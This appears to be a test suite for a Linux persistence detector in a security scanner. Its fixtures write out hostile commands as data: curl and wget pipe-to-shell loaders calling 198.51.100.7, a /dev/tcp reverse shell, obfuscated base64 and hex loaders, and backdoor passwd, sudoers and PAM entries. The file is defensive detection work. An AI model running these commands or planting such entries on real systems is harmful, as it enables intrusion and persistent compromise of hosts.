import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { planWithoutRules } from '../../../test/fixtures/plan.ts';
import type { DetectedFinding, FileKind } from '../detector.ts';
import { createRunner, type Fault } from '../runner.ts';
import { persistenceDetector } from './detector.ts';

interface Given {
  readonly path: string;
  readonly text?: string;
  readonly kind?: FileKind;
  readonly mode?: number;
  readonly uid?: number;
  /** Of the text in a larger file. */
  readonly offset?: number;
}

const runner = createRunner(
  planWithoutRules([persistenceDetector]),
  [persistenceDetector],
  undefined,
  60_000,
);

function inspectAll({ path, text = 'x', kind = 'text', mode = 0o644, uid = 0, offset = 0 }: Given): {
  readonly findings: readonly DetectedFinding[];
  readonly faults: readonly Fault[];
} {
  const bytes = Buffer.from(text, 'latin1');
  const file = { path, kind, mode, uid, gid: 0, size: offset + bytes.length, bytes, offset };
  const { path: found, faults } = runner.inspect(file, { content: false, unfold: false, path: true });
  return { findings: found.findings, faults };
}

function inspect(given: Given): readonly DetectedFinding[] {
  const { findings, faults } = inspectAll(given);
  assert.deepEqual(faults, []);
  return findings;
}

const rules = (given: Given) => inspect(given).map((one) => `${one.rule.split('/')[1]} ${one.severity}`);
const quiet = (given: Given) => inspect(given).filter((one) => one.confidence >= 0.4);

describe('the persistence detector', () => {
  it('takes a preloaded library for a backdoor unless it is one that serves a purpose', () => {
    const path = '/etc/ld.so.preload';
    assert.deepEqual(rules({ path, text: '/usr/local/lib/libprocess.so\n' }), ['preload high']);
    assert.deepEqual(rules({ path, text: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n' }), ['preload low']);
    assert.deepEqual(rules({ path, text: '/tmp/libjemalloc.so.2\n' }), ['preload high']);
    assert.deepEqual(rules({ path, text: '# nothing\n\n' }), []);
  });

  it('finds start files that fetch programs or run them from hidden places', () => {
    const fetches = '*/5 * * * * root curl -fsSL http://198.51.100.7/i.sh | sh\n';
    assert.deepEqual(rules({ path: '/etc/cron.d/a', text: fetches }), ['start-loader high']);
    assert.deepEqual(
      rules({ path: '/var/spool/cron/crontabs/root', text: '* * * * * /tmp/.x/run >/dev/null 2>&1\n' }),
      ['starts-hidden high'],
    );
    const unit = '[Service]\nExecStart=/bin/bash -c "wget -qO- http://198.51.100.7/i.sh | bash"\n';
    assert.deepEqual(rules({ path: '/etc/systemd/system/a.service', text: unit }), ['start-loader high']);
    assert.deepEqual(
      rules({ path: '/etc/systemd/system/a.service', text: '[Service]\nExecStart=/dev/shm/a\n' }),
      ['starts-hidden high'],
    );
    assert.deepEqual(rules({ path: '/root/.bashrc', text: 'alias ls=ls\nnohup /var/tmp/.ICE/a &\n' }), [
      'starts-hidden high',
    ]);
    assert.deepEqual(
      rules({
        path: '/etc/rc.local',
        text: '#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n',
        kind: 'script',
      }),
      ['reverse-shell high'],
    );
  });

  it('weighs loaders in other scripts by where they download from', () => {
    const script = (line: string) =>
      rules({ path: '/opt/run', text: `#!/bin/bash\n${line}\n`, kind: 'script', mode: 0o755 });
    assert.deepEqual(script('curl -s http://198.51.100.7/x | bash'), ['script-loader high']);
    assert.deepEqual(script('curl -fsSL https://sh.rustup.rs | sh -s -- -y'), ['script-loader info']);
    assert.deepEqual(script('curl -s http://localhost/health'), []);
    const payload = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
    assert.deepEqual(script(payload('curl -s http://198.51.100.7/x | sh')), ['script-loader high']);
    assert.deepEqual(script(payload('exec nginx -g "daemon off;"')), ['script-loader info']);
    assert.deepEqual(script('echo "$SCRIPT" | base64 -d | sh'), ['script-loader low']);
    assert.deepEqual(script('curl -L https://a.example.com/a.tgz | tar xz; ./a/run'), ['script-loader info']);
    assert.deepEqual(script('curl -L http://198.51.100.7/a.tgz | tar xz; ./a/run'), ['script-loader high']);
    assert.deepEqual(script('c""url -s "ht""tp://198.51.100.7/x" | ba\\sh'), ['script-loader high']);
  });

  it('reads scripts without a first line that says so, and says what they weigh when started', () => {
    const text = 'wget -qO- http://files.example.com/x.sh | sh\n';
    for (const place of [{ path: '/run' }, { path: '/x.sh' }, { path: '/a/b.x', mode: 0o755 }]) {
      const [found] = inspect({ text, ...place });
      assert.deepEqual(
        [found?.rule, found?.confidence, found?.whenStarted],
        ['persistence/script-loader', 0.5, 0.7],
      );
    }
    assert.deepEqual(rules({ text, path: '/srv/notes.txt' }), []);
  });

  it('reads scripts without a word that loaders are known by', () => {
    const script = (line: string) =>
      rules({ path: '/opt/run', text: `#!/bin/sh\n${line}\n`, kind: 'script', mode: 0o755 });
    const hex = Buffer.from('wget -qO- http://198.51.100.7/x | sh').toString('hex');
    assert.deepEqual(script(`echo ${hex} | xxd -r -p | sh`), ['script-loader high']);
    assert.deepEqual(script('A=cu; B=rl; $A$B -s http://198.51.100.7/x | sh'), ['script-loader high']);
    assert.deepEqual(script('echo hello | tr a-z A-Z | sort'), []);
  });

  it('is not kept from the work by comments, idle commands or long lines around it', () => {
    const work = 'curl -s http://198.51.100.7/i.sh | sh\n';
    const comments = '# nothing to see in this line\n'.repeat(100_000);
    const idle = Array.from({ length: 30_000 }, (_, index) => `test -f /x${index}\n`).join('');
    const long = `: ${'A'.repeat(400_000)}\n`;
    for (const [name, padding] of Object.entries({ comments, idle, long })) {
      const script = (text: string) =>
        ({ path: '/opt/run', text: `#!/bin/sh\n${text}`, kind: 'script' }) as const;
      assert.deepEqual(rules(script(work + padding)), ['script-loader high'], `before ${name}`);
      assert.deepEqual(rules(script(padding + work)), ['script-loader high'], `behind ${name}`);
      assert.deepEqual(rules({ path: '/x.sh', text: padding + work }), ['script-loader high'], name);
    }
    const cron = `${comments}* * * * * root ${work}`;
    const [found] = inspect({ path: '/etc/cron.d/a', text: cron });
    assert.equal(found?.rule, 'persistence/start-loader');
    assert.equal(found.offset, cron.indexOf('curl'));
    const [later] = inspect({ path: '/etc/cron.d/a', text: cron, offset: 20_000_000 });
    assert.equal(later?.offset, 20_000_000 + cron.indexOf('curl'));
    const account = `root:x:0:0::/root:/bin/sh\n${'#\n'.repeat(200_000)}sys2:x:0:0::/:/bin/sh\n`;
    assert.deepEqual(rules({ path: '/etc/passwd', text: account }), ['root-account high']);
  });

  it('says so where a file that starts by itself holds more than is read', () => {
    const text = '* * * * * root /usr/bin/true\n'.repeat(60_000);
    const { findings, faults } = inspectAll({ path: '/etc/cron.d/a', text });
    assert.deepEqual(findings, []);
    assert.match(faults[0]?.message ?? '', /^\d+ bytes of a file that starts by itself were not read$/);
    assert.equal(faults[0]?.code, 'limit');
    const found = inspect({
      path: '/etc/cron.d/a',
      text: `* * * * * root curl 198.51.100.7/x | sh\n${text}`,
    });
    assert.deepEqual(
      found.map((one) => one.rule),
      ['persistence/start-loader'],
    );
  });

  it('finds attack tools that scripts, crontabs and programs start, and weighs them by whether they are started', () => {
    const weights = (given: Given) =>
      inspect(given).map((one) => [one.rule.split('/')[1], one.confidence, one.whenStarted]);
    const script = (text: string): Given => ({
      path: '/run.sh',
      text: `#!/bin/sh\n${text}\n`,
      kind: 'script',
    });
    assert.deepEqual(weights(script('slowloris www.example.org -s 5000')), [['flooder', 0.4, 0.8]]);
    assert.deepEqual(weights(script('masscan 0.0.0.0/0 -p22')), [['scanner', 0.375, 0.75]]);
    assert.deepEqual(weights(script('ngrok tcp 22 &')), [['tunnel', 0.45, 0.5]]);
    const list = 'for u in $(curl -s https://www.example.org/targets); do hey -z 1h $u & done';
    assert.deepEqual(weights(script(list)), [['flooder', 0.35, 0.7]]);
    const piped = 'curl -s https://www.example.org/targets | while read -r u; do bombardier "$u"; done';
    assert.deepEqual(weights(script(piped)), [['flooder', 0.35, 0.7]]);
    const worm = 'H=$(curl -s http://198.51.100.7/ip | shuf -n1)\ndocker -H tcp://$H:2375 run x/y';
    assert.deepEqual(weights(script(worm)), [['remote-docker', 0.375, 0.75]]);
    const cron = { path: '/etc/cron.d/a', text: '* * * * * root masscan 0.0.0.0/0 -p22\n' };
    assert.deepEqual(weights(cron), [['scanner', 0.75, undefined]]);
    const python = { path: '/app/a.py', text: 'import os\nos.popen("masscan 0.0.0.0/0 -p22 | cut -f6")\n' };
    assert.deepEqual(weights(python), [['scanner', 0.375, 0.75]]);
    const list2 = {
      path: '/app/a.js',
      text: "spawn('bombardier', ['-d', '1h', 'https://www.example.org'])\n",
    };
    assert.deepEqual(weights(list2), [['flooder', 0.35, 0.7]]);
    const uashield = { path: '/app/package.json', text: '{ "name": "uashield" }' };
    assert.deepEqual(weights(uashield), [['flooder', 0.4, 0.8]]);
  });

  it('leaves alone what looks like an attack tool and is not started, or aims at what is near', () => {
    for (const text of [
      'bombardier -c 1000 -d 1h http://web:8080/',
      'for u in $(curl -s http://localhost:8500/services); do hey "$u"; done',
      'ab -n 10 -H "X: $(curl -s https://www.example.org/token)" http://localhost/',
      'command -v slowhttptest || echo missing',
      'case "$1" in hulk) echo no;; masscan) echo no;; esac',
      'cat <<EOF\nusage: masscan 0.0.0.0/0 -p22\nEOF',
      'echo "try bombardier https://www.example.org"',
      'nmap -sS 192.168.0.0/24',
      'ssh -oRequestTTY=no git@git.example.org',
      'V=$(curl -s https://www.example.org/version); docker -H tcp://docker:2375 run app:$V',
      'masscan --version',
    ]) {
      assert.deepEqual(rules({ path: '/run.sh', text: `#!/bin/sh\n${text}\n`, kind: 'script' }), [], text);
    }
    const own = '#!/bin/sh\nmasscan 10.0.0.0/8 -p80\n';
    assert.deepEqual(rules({ path: '/run.sh', text: own, kind: 'script' }), ['scanner info']);
    const library = '/usr/lib/python3/dist-packages/a.py';
    assert.deepEqual(rules({ path: library, text: 'os.system("masscan 0.0.0.0/0 -p1")' }), []);
  });

  it('takes killed miners for rivals only beside other signs of an intruder', () => {
    const script = (...lines: string[]) =>
      inspect({ path: '/run.sh', text: `#!/bin/sh\n${lines.join('\n')}\n`, kind: 'script' })
        .filter((one) => one.rule === 'persistence/rivals-killed')
        .map((one) => one.confidence);
    assert.deepEqual(script('pkill xmrig || true', 'exec nginx'), [0.3]);
    assert.deepEqual(script('pkill kinsing', 'pkill kdevtmpfsi'), [0.3, 0.3]);
    assert.deepEqual(script('pkill kinsing', 'pkill kdevtmpfsi', 'killall minerd'), [0.45, 0.45, 0.45]);
    assert.deepEqual(script('pkill kinsing', 'curl http://198.51.100.7/x | sh'), [0.6]);
    assert.deepEqual(script('pkill kinsing', './a -o stratum+tcp://pool.example.com:3333 -u x'), [0.6]);
  });

  it('tells of prepared hosts in a low voice, for administrators do the same', () => {
    for (const [line, expected] of [
      ['iptables -F', 'protection-off low'],
      ['unset HISTFILE', 'traces-hidden low'],
      ['sysctl -w vm.nr_hugepages=1024', 'mining-preparation low'],
      ['docker run --privileged x', 'escape low'],
    ]) {
      const found = rules({ path: '/run.sh', text: `#!/bin/sh\n${line}\n`, kind: 'script' });
      assert.deepEqual(found, [expected]);
    }
  });

  it('knows the usual setuid programs, by name, place and content', () => {
    const setuid = (path: string, text = '\x7fELF', uid = 0) =>
      rules({ path, text, kind: 'elf', mode: 0o4755, uid });
    for (const name of [
      'bin/su',
      'usr/bin/mount',
      'usr/bin/sudo',
      'usr/lib/openssh/ssh-keysign',
      'usr/bin/chsh',
      'usr/libexec/polkit-agent-helper-1',
    ]) {
      assert.deepEqual(setuid(`/${name}`), [], name);
    }
    assert.deepEqual(setuid('/usr/bin/su', '\x7fELF @(#)Bash version 5.2'), ['setuid-shell high']);
    assert.deepEqual(setuid('/usr/bin/python3.11'), ['setuid-shell high']);
    assert.deepEqual(setuid('/usr/local/bin/own-tool'), ['setuid low']);
    assert.deepEqual(setuid('/usr/local/bin/own-tool', '\x7fELF', 1000), ['setuid info']);
    assert.ok(setuid('/tmp/su').includes('setuid-shell high'));
  });

  it('finds programs in places and under names made to be overlooked', () => {
    const program = (path: string) => rules({ path, text: '\x7fELF', kind: 'elf', mode: 0o755 });
    assert.deepEqual(program('/usr/lib/.../a'), ['hidden-program high']);
    assert.deepEqual(program('/var/tmp/.X11/a'), ['hidden-program high']);
    assert.deepEqual(program('/dev/shm/a'), ['hidden-program high']);
    assert.deepEqual(program('/usr/lib/.x/a'), ['hidden-program medium']);
    assert.deepEqual(program('/usr/bin/[kworker/0:0]'), ['kernel-thread-name high']);
    assert.deepEqual(program('/usr/sbin/kswapd0'), ['kernel-thread-name high']);
    assert.deepEqual(program('/var/www/logo.jpg'), ['disguised-program high']);
    for (const path of [
      '/usr/bin/[',
      '/root/.cargo/bin/rg',
      '/usr/lib/debug/.build-id/a',
      '/usr/bin/migration',
      '/usr/lib/nftables.so',
    ]) {
      assert.deepEqual(program(path), [], path);
    }
  });

  it('finds accounts and logins that were opened', () => {
    const passwd = (line: string) =>
      rules({ path: '/etc/passwd', text: `root:x:0:0:root:/root:/bin/bash\n${line}\n` });
    assert.deepEqual(passwd('sys2:x:0:0::/:/bin/bash'), ['root-account high']);
    assert.deepEqual(passwd('a::1000:1000::/:/bin/bash'), ['account-password medium']);
    assert.deepEqual(passwd('daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin'), []);
    assert.deepEqual(rules({ path: '/etc/sudoers.d/a', text: 'www-data ALL=(ALL) NOPASSWD: ALL\n' }), [
      'sudo-without-password medium',
    ]);
    assert.deepEqual(rules({ path: '/etc/sudoers', text: '%sudo ALL=(ALL:ALL) ALL\n' }), []);
    assert.deepEqual(rules({ path: '/etc/pam.d/sshd', text: 'auth sufficient pam_permit.so\n' }), [
      'pam high',
    ]);
    assert.deepEqual(
      rules({
        path: '/etc/pam.d/common-auth',
        text: 'auth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n',
      }),
      [],
    );
    assert.deepEqual(
      rules({ path: '/etc/ssh/sshd_config', text: '#PermitRootLogin yes\nPermitEmptyPasswords yes\n' }),
      ['sshd medium'],
    );
  });

  it('never shows a password hash', () => {
    const [finding] = inspect({
      path: '/etc/shadow',
      text: 'root:$6$abcdefgh$secretsecretsecret:19000:0:::::\nbin:*:1::::::\n',
    });
    assert.equal(finding?.excerpt, 'root:$6$…');
    assert.equal(finding?.severity, 'medium');
  });

  it('stays quiet on what Debian installs', () => {
    for (const given of [
      {
        path: '/etc/crontab',
        text: '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
      },
      {
        path: '/etc/cron.d/e2scrub_all',
        text: '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
      },
      {
        path: '/usr/lib/systemd/system/ssh.service',
        text: '[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n',
      },
      { path: '/root/.bashrc', text: "# export LS_OPTIONS='--color=auto'\n" },
      { path: '/usr/lib/systemd/system/tmp.service', text: '[Service]\nExecStart=/bin/rm -rf /tmp/x\n' },
      {
        path: '/usr/share/doc/x/examples/run.sh',
        text: '#!/bin/sh\ncurl http://198.51.100.7/x | sh\n',
        kind: 'script' as const,
      },
    ]) {
      assert.deepEqual(quiet(given), [], given.path);
    }
  });
});
